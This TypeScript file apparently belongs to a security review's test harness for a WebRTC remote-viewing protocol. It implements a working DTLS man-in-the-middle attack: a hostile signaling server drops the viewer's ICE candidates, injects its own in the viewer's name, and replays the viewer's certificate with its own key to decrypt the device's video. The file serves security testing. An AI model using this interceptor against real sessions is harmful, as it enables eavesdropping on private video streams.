/**
 * Attack 3 of the security review, as a hostile rendezvous server would run it (an interceptor for
 * hostile-proxy.ts, which sits on the viewer's signaling connection).
 *
 * 1. The viewer's signed offer passes unchanged (it cannot be changed: signed); the attacker reads
 *    the viewer's ICE ufrag/pwd and DTLS fingerprint from it. The device's signed answer is read
 *    (plaintext: ufrag/pwd, fingerprint, `a=setup:active`, candidates) and held back.
 * 2. The viewer's trickled candidates never reach the device; instead the attacker trickles its own
 *    candidates to the device in the viewer's name (`session/ice`, unsigned, as a relay could) and
 *    runs ICE with the device as "the viewer", with the viewer's ufrag/pwd (ICE controlling).
 * 3. The device answered `a=setup:active`, so it is the DTLS client and the attacker the DTLS server:
 *    the attacker presents the viewer's certificate (whose SHA-256 is the fingerprint the device
 *    trusts, from the signed offer) with a private key of its own (attack 1). A verifier that only
 *    hashes the certificate (werift 0.24) completes the handshake and sends SRTP keyed to the
 *    attacker; OpenSSL checks the ServerKeyExchange signature against the certificate and fails.
 *
 * SIMPLIFICATION: the attacker takes the viewer's certificate from Chromium's `getStats()`
 * certificate report (`base64Certificate`, read from the page by the test through
 * `viewerCertificate`), instead of from the viewer's own DTLS flight after running ICE with the
 * viewer in the device's name. The certificate is public (DTLS 1.2 sends it in clear to anyone who
 * completes ICE with the viewer), so this changes how the attacker learns it, not what it can do
 * with it. Because of that the attacker does not need the viewer side of ICE, and does not run it:
 * the device's answer is held back (the viewer never gets a path to anyone); the viewer learns of
 * the attack from the device's `session/closed {code: 'E_DTLS_FAILED'}`.
 *
 * The attacker peer is werift, with its DTLS certificate replaced by the viewer's and its key by a
 * fresh P-256 key; the ICE credentials of its connection are overwritten with the viewer's before
 * it gathers. It counts the RTP packets it decrypts (SRTP authenticated with keys from its DTLS).
 */
import { generateKeyPairSync } from 'node:crypto';
import { decodeEnvelope } from '@hearth/protocol';
import { RTCPeerConnection, RTCRtpCodecParameters } from 'werift';
import type { FrameInterceptor, ProxiedConnection } from './hostile-proxy.js';

export interface SdpFacts {
  ufrag: string;
  pwd: string;
  fingerprint: string;
  setup: string | undefined;
  mid: string;
  /** H.264 payload type and its fmtp (the first H.264 in the SDP). */
  h264: { pt: number; fmtp: string } | undefined;
}

export function sdpFacts(sdp: string): SdpFacts {
  const one = (re: RegExp) => re.exec(sdp)?.[1]?.trim();
  const pt = one(/^a=rtpmap:(\d+) H264\/90000/im);
  return {
    ufrag: one(/^a=ice-ufrag:(\S+)/m) ?? '',
    pwd: one(/^a=ice-pwd:(\S+)/m) ?? '',
    fingerprint: one(/^a=fingerprint:(.+)$/m) ?? '',
    setup: one(/^a=setup:(\S+)/m),
    mid: one(/^a=mid:(\S+)/m) ?? '0',
    h264:
      pt === undefined
        ? undefined
        : { pt: Number(pt), fmtp: one(new RegExp(`^a=fmtp:${pt} (.+)$`, 'm')) ?? '' },
  };
}

export function derBase64ToPem(b64: string): string {
  const body =
    b64
      .replace(/\s+/g, '')
      .match(/.{1,64}/g)
      ?.join('\n') ?? '';
  return `-----BEGIN CERTIFICATE-----\n${body}\n-----END CERTIFICATE-----\n`;
}

export interface MitmReport {
  offers: number;
  viewerCandidatesDropped: number;
  deviceCandidatesDropped: number;
  injectedToDevice: number;
  answersHeld: number;
  offer?: SdpFacts;
  answer?: SdpFacts;
  /** The attacker peer toward the device: ICE and DTLS/connection state as it last saw them. */
  ice: string;
  dtls: string;
  /** RTP packets the attacker decrypted from the device, and of them H.264 (the answer's payload type). */
  rtpPackets: number;
  h264Packets: number;
  errors: string[];
}

export interface DtlsMitm extends FrameInterceptor {
  readonly report: MitmReport;
  close(): Promise<void>;
}

/**
 * @param viewerCertificate returns the viewer's DTLS certificate (PEM) whose SHA-256 is the offer's
 *   fingerprint (see SIMPLIFICATION above).
 */
export function createDtlsMitm(o: { viewerCertificate: (fingerprint: string) => Promise<string> }): DtlsMitm {
  const report: MitmReport = {
    offers: 0,
    viewerCandidatesDropped: 0,
    deviceCandidatesDropped: 0,
    injectedToDevice: 0,
    answersHeld: 0,
    ice: 'new',
    dtls: 'new',
    rtpPackets: 0,
    h264Packets: 0,
    errors: [],
  };
  const pcs: RTCPeerConnection[] = [];
  /** The session under attack: the first offer seen. */
  let target: { sid: string; device: string; offer: SdpFacts } | undefined;

  async function attack(conn: ProxiedConnection, answerSdp: string): Promise<void> {
    const t = target;
    if (!t) return;
    const answer = sdpFacts(answerSdp);
    report.answer = answer;
    const certPem = await o.viewerCertificate(t.offer.fingerprint);
    const { privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
    const keyPem = privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
    const h264 = answer.h264 ?? { pt: 96, fmtp: 'packetization-mode=1' };
    const pc = new RTCPeerConnection({
      codecs: {
        audio: [],
        video: [
          new RTCRtpCodecParameters({
            mimeType: 'video/H264',
            clockRate: 90000,
            payloadType: h264.pt,
            rtcpFeedback: [{ type: 'nack' }, { type: 'nack', parameter: 'pli' }],
            parameters: h264.fmtp,
          }),
        ],
      },
      iceAdditionalHostAddresses: ['127.0.0.1'],
      // The viewer's certificate, the attacker's key (ECDSA P-256 with SHA-256, as Chromium's).
      dtls: { keys: { certPem, keyPem, signatureHash: { hash: 4, signature: 3 } } },
    });
    pcs.push(pc);
    pc.addTransceiver('video', { direction: 'recvonly' });
    const ice = pc.iceTransports[0]?.connection as unknown as {
      localUsername: string;
      localPassword: string;
      userHistory: Record<string, string>;
    };
    if (!ice) throw new Error('werift made no ICE transport for the transceiver');
    // "The viewer" toward the device: its ufrag/pwd, before anything is gathered.
    ice.localUsername = t.offer.ufrag;
    ice.localPassword = t.offer.pwd;
    ice.userHistory[t.offer.ufrag] = t.offer.pwd;
    pc.iceConnectionStateChange.subscribe((s) => {
      report.ice = s;
    });
    pc.connectionStateChange.subscribe((s) => {
      report.dtls = s;
    });
    pc.onIceCandidate.subscribe((c) => {
      const j = c?.toJSON();
      if (!j?.candidate) return;
      // In the viewer's name: a `send` on the viewer's own socket; the server stamps `from`.
      const candidate = j.candidate.replace(/ ufrag \S+/, '');
      conn.toServer(
        JSON.stringify({
          t: 'send',
          to: t.device,
          m: { t: 'session/ice', sid: t.sid, c: { candidate, sdpMid: answer.mid, sdpMLineIndex: 0 } },
        }),
      );
      report.injectedToDevice++;
    });
    const offer = await pc.createOffer();
    await pc.setLocalDescription(offer);
    for (const d of pc.dtlsTransports) {
      d.onRtp.subscribe((rtp) => {
        report.rtpPackets++;
        if (rtp.header.payloadType === h264.pt) report.h264Packets++;
      });
    }
    await pc.setRemoteDescription({ type: 'answer', sdp: answerSdp });
  }

  return {
    report,
    fromViewer(frame, _conn) {
      const f = JSON.parse(frame) as {
        t: string;
        to?: string;
        m?: { t?: string; env?: unknown; sid?: string };
      };
      if (f.t !== 'send' || !f.m) return frame;
      if (f.m.t === 'session/offer') {
        report.offers++;
        if (!target) {
          const env = decodeEnvelope(f.m.env);
          const b = env.b as { sid: string; sdp: string };
          target = { sid: b.sid, device: f.to ?? '', offer: sdpFacts(b.sdp) };
          report.offer = target.offer;
        }
        return frame; // signed: passed through unchanged
      }
      if (f.m.t === 'session/ice' && target && f.m.sid === target.sid) {
        report.viewerCandidatesDropped++;
        return null; // the device must only know the attacker's address
      }
      return frame;
    },
    fromServer(frame, conn) {
      const f = JSON.parse(frame) as { t: string; m?: { t?: string; env?: unknown; sid?: string } };
      if (f.t !== 'recv' || !f.m || !target) return frame;
      if (f.m.t === 'session/answer') {
        const env = decodeEnvelope(f.m.env);
        const b = env.b as { sid: string; sdp: string };
        if (b.sid !== target.sid) return frame;
        report.answersHeld++;
        void attack(conn, b.sdp).catch((e: unknown) => {
          report.errors.push(String((e as Error)?.stack ?? e));
        });
        return null; // held: the viewer gets no path to the device
      }
      if (f.m.t === 'session/ice' && f.m.sid === target.sid) {
        report.deviceCandidatesDropped++;
        return null;
      }
      return frame;
    },
    async close() {
      for (const pc of pcs.splice(0)) await pc.close().catch(() => undefined);
    },
  };
}
